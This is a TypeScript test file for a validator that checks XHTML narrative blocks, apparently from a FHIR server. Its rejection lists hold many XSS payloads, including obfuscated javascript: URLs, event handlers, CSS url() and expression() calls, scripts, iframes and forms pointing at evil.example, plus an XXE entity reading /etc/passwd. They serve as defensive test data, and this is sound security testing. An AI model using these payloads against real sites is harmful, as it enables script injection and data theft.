import t from 'tap'
import { narrativeFaults } from '../../src/validation/narrative.ts'

const ns = 'xmlns="http://www.w3.org/1999/xhtml"'
const div = (inside: string) => `<div ${ns}>${inside}</div>`

const good = [
  div('text'),
  div('<p>a<br/>b &lt; c &amp; d &#160; &#x1F600; &quot;&apos;&gt;</p>'),
  div('<img src="#pic" alt="a picture"/>'),
  div('<img src="data:image/png;base64,iVBORw0KGgo="/>'),
  div('<img src="data: image/png;base64,iVBORw0KGgo="/>'),
  div(`<img src="data:${' '.repeat(60)}image/png;base64,iVBORw0KGgo="/>`),
  div('<a href="https://example.org/?a=1&amp;b=data:2">x</a>'),
  div('<a href="Patient/123">x</a><a name="here">y</a><a href="#here">z</a><a href="mailto:a@example.org">m</a>'),
  div('<a href="urn:uuid:c757873d-ec9a-4326-a141-556f43239520">x</a>'),
  div('<table border="1" class="grid"><caption>c</caption><tbody><tr><td colspan="2">x</td></tr></tbody></table>'),
  div('<span style="color: red; font-weight: bold">x</span>'),
  div('<span style="background-image: url(tbl_bck1.png)">x</span>'),
  div('<span style="background-image: url(data:image/png;base64,iVBORw0KGgo=)">x</span>'),
  div('<!-- a comment - with dashes -->x'),
  div("<p title='javascript: is only text here'>onclick=alert(1)</p>"),
  div('&lt;script&gt;alert(1)&lt;/script&gt;'),
  ` <div lang="de" xml:lang="de" ${ns}\n>x</div >\n`,
  `<!-- before --><div ${ns}>x</div><!-- after -->`,
]

t.test('formatting, links and still images are accepted as they are', async t => {
  for (const text of good) t.same(narrativeFaults(text), [], text)
})

/** Well-formed, but it would run or fetch something: a broken rule (txt-1), 422. */
const active = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"/>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<p onclick="alert(1)">x</p>',
  '<img src="x.png" onerror="alert(1)"/>',
  '<img src="#a" ONERROR="alert(1)"/>',
  '<div onmouseover="alert(1)">x</div>',
  '<table><tr><td onload="alert(1)">x</td></tr></table>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#115;cript:alert(1)">x</a>',
  '<a href="java&#x73;cript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="java&#9;script:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&#13;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="java&#x200B;script:alert(1)">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  "<a href='vbscript:msgbox(1)'>x</a>",
  '<a href="livescript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="data:image/png;base64,AAAA">x</a>',
  '<a href="blob:https://example.org/1">x</a>',
  '<img src="javascript:alert(1)"/>',
  '<img src="data:text/html,x"/>',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+"/>',
  '<img src="data: image/svg+xml;base64,PHN2Zy8+"/>',
  '<img src="javascript:alert(1)//data:image/png;base64,iVBORw0KGgo="/>',
  '<img src="#a" srcset="https://evil.example/x.png 2x"/>',
  '<img src="#a" dynsrc="javascript:alert(1)"/>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<p style="background: url(javascript:alert(1))">x</p>',
  '<p style="background: url(https://evil.example/track.png)">x</p>',
  '<p style="background: url(//evil.example/track.png)">x</p>',
  '<p style="background: URL (&#39;https://evil.example&#39;)">x</p>',
  '<p style="background: u\\72l(https://evil.example)">x</p>',
  '<p style="background: url(a.png) url(https://evil.example/b.png)">x</p>',
  '<p style="background: image-set(&quot;https://evil.example/a.png&quot; 1x)">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="width: exp/**/ression(alert(1))">x</p>',
  '<p style="width: e&#x78;pression(alert(1))">x</p>',
  '<p style="width: ｅｘｐｒｅｓｓｉｏｎ(alert(1))">x</p>',
  '<p style="behavior: url(x.htc)">x</p>',
  '<p style="-moz-binding: url(x.xml#a)">x</p>',
  '<p style="@import \'https://evil.example\'">x</p>',
  '<style>@import url(https://evil.example)</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"/>',
  '<base href="https://evil.example/"/>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"/>',
  '<iframe src="https://evil.example"/>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"/>',
  '<frameset><frame src="x"/></frameset>',
  '<object data="x.swf"/>',
  '<embed src="x.swf"/>',
  '<applet code="x"/>',
  '<form action="https://evil.example"><input type="submit"/></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg onload="alert(1)"/>',
  '<math href="javascript:alert(1)">x</math>',
  '<video src="x" onerror="alert(1)"/>',
  '<audio src="x"/>',
  '<details ontoggle="alert(1)">x</details>',
  '<template>x</template>',
  '<noscript><p title="&lt;/noscript&gt;">x</p></noscript>',
  '<title>x</title>',
  '<textarea>x</textarea>',
  '<body onload="alert(1)">x</body>',
  '<head/>',
  '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  '<p xlink:href="x">x</p>',
  '<a href="#a" target="_blank">x</a>',
  '<font color="red">x</font>',
  '<ins>x</ins>',
  '<!--><img src="x" onerror="alert(1)"/>-->x',
]

t.test('anything active is refused, whatever disguise it wears', async t => {
  for (const inside of active) {
    const faults = narrativeFaults(div(`before ${inside}`))
    t.match(faults[0], { code: 'invariant', text: /^the narrative contains .*\(txt-1\)$/s }, inside)
  }
})

/** Not XML: a fault of structure, 400. */
const malformed = [
  '',
  '   ',
  'text',
  '<p>no div</p>',
  '<div>no namespace</div>',
  '<div xmlns="http://www.w3.org/2000/svg">x</div>',
  `<DIV ${ns}>x</DIV>`,
  `<h:div xmlns:h="http://www.w3.org/1999/xhtml">x</h:div>`,
  `<div ${ns}>x`,
  `<div ${ns}>x</div`,
  `<div ${ns}>x</divx>`,
  `<div ${ns}>x</div></div>`,
  `<div ${ns}>x</div><div ${ns}>y</div>`,
  `<div ${ns}>x</div>y`,
  `x<div ${ns}>x</div>`,
  div('<p>x'),
  div('<b><i>x</b></i>'),
  div('</p>'),
  div('a < b'),
  div('a & b'),
  div('a &nbsp; b'),
  div('&unknown;'),
  div('&#0;'),
  div('&#x1;'),
  div('&#xD800;'),
  div('&#x110000;'),
  div('&#106'),
  div('\u0000'),
  div('\u0008'),
  div('\uffff'),
  div(']]>'),
  div('<p title=x>x</p>'),
  div('<p title>x</p>'),
  div('<p title="x>x</p>'),
  div('<p title="<">x</p>'),
  div('<p title="&nbsp;">x</p>'),
  div('<p title="a"class="b">x</p>'),
  div('<p title="a" title="b">x</p>'),
  div('<p / title="a">x</p>'),
  div('<p xmlns="http://www.w3.org/2000/svg">x</p>'),
  div('<!-- -- -->x'),
  div('<!-- x'),
  div('<!--->x'),
  div('<![CDATA[<img src=x onerror=alert(1)>]]>'),
  div('<![CDATA[x'),
  div('<?php echo 1 ?>'),
  div('<?xml-stylesheet href="https://evil.example"?>'),
  `<?xml version="1.0"?>${div('x')}`,
  `<!DOCTYPE div [<!ENTITY x SYSTEM "file:///etc/passwd">]><div ${ns}>&x;</div>`,
  div('<!ENTITY x "y">'),
  div('<img src="x" onerror=alert(1)//'),
  div('<script'),
  div('<'),
  div('< p>x</p>'),
  div('<ä>x</ä>'),
]

t.test('what is not one well-formed XHTML div is refused', async t => {
  for (const text of malformed) {
    const last = narrativeFaults(text).at(-1)
    t.match(last, { code: 'structure', text: /^expected one well-formed XHTML <div>: / }, text)
  }
})

t.test('a narrative needs text or an image (txt-2)', async t => {
  for (const text of [
    div(''),
    div(' \n\t'),
    div('<p> </p>'),
    div('<img alt="x"/>'),
    div('<!-- x -->'),
    `<div ${ns}/>`,
  ]) {
    t.match(narrativeFaults(text), [{ code: 'invariant', text: /txt-2/ }], text)
  }
})

t.test('all active parts are named, a hundred at most', async t => {
  t.equal(narrativeFaults(div('<p onclick="a" onload="b">x<script/></p>')).length, 3)
  t.equal(narrativeFaults(div('x<script/>'.repeat(1000))).length, 100)
})

t.test('hostile narratives are read in linear time', async t => {
  const size = 500_000
  const hostile = [
    div('<b>'.repeat(size)),
    div(`<p ${'a="" '.repeat(size)}>x</p>`),
    div(`<p ${' '.repeat(size)}`),
    div('&'.repeat(size)),
    div('&amp;'.repeat(size)),
    div('<!--'.repeat(size)),
    div('<!-- -->'.repeat(size)),
    div(`<p title="${'&amp;'.repeat(size)}">x</p>`),
    div(`<p style="${'url('.repeat(size)}">x</p>`),
    div(`<p style="${'url(data:image/png;base64,'.repeat(size / 10)}">x</p>`),
    div(`<p style="url${' '.repeat(size)}">x</p>`),
    div(`<a href="${' :'.repeat(size)}">x</a>`),
    `${'<div '.repeat(size)}`,
    ' '.repeat(size),
  ]
  // A quadratic reader would need minutes and run into the time limit of the test.
  for (const text of hostile) t.ok(narrativeFaults(text), text.slice(40, 60))
})
